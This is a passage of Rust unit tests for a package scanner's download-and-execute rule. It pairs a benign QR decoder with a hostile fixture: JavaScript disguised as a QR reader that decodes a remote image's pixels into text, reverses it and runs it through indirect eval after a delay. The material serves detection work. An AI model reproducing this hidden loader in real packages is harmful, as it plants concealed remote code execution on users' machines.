    /// A QR "reader" that decodes the bits of an image's pixels to text and runs it reversed
    /// through indirect eval (the 2025 fezbox technique).
    #[test]
    fn positive_image_pixels_decoded_and_evaluated() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "dist/qr.js",
                "function bits(img) {\n  const c = document.createElement('canvas');\n  const ctx = c.getContext('2d'); ctx.drawImage(img, 0, 0);\n  const px = ctx.getImageData(0, 0, 64, 64).data; const b = [];\n  for (let i = 0; i < px.length; i += 4) b.push(px[i] < 128 ? 1 : 0);\n  return b;\n}\nfunction text(b) {\n  let s = '';\n  for (let i = 0; i + 8 <= b.length; i += 8) s += String.fromCharCode(parseInt(b.slice(i, i + 8).join(''), 2));\n  return s;\n}\nfunction read(url) {\n  return new Promise((resolve) => { const img = new Image(); img.onload = () => resolve(text(bits(img))); img.src = url; });\n}\nsetTimeout(() => read('https://cdn.example.com/demo.png').then((src) => (0, eval)(src.split('').reverse().join(''))), 120000);\nexports.read = read;\n",
            ),
        ]);
        let f = crate::rules::test_util::finding(&s, "code/download-exec");
        assert_eq!(
            (f.line, f.severity),
            (16, diligence_finding::Severity::Critical)
        );
    }

    /// The benign look-alike: a QR decoder reads pixels to text and returns it.
    #[test]
    fn negative_qr_decoder_returns_text() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "dist/qr.js",
                "function decode(ctx, w, h) {\n  const px = ctx.getImageData(0, 0, w, h).data; const b = [];\n  for (let i = 0; i < px.length; i += 4) b.push(px[i] < 128 ? 1 : 0);\n  let s = '';\n  for (let i = 0; i + 8 <= b.length; i += 8) s += String.fromCharCode(parseInt(b.slice(i, i + 8).join(''), 2));\n  return s;\n}\nexports.decode = decode;\n",
            ),
        ]);
        assert!(
            hits(&s, "code/download-exec").is_empty(),
            "{:?}",
            s.findings
        );
    }
}
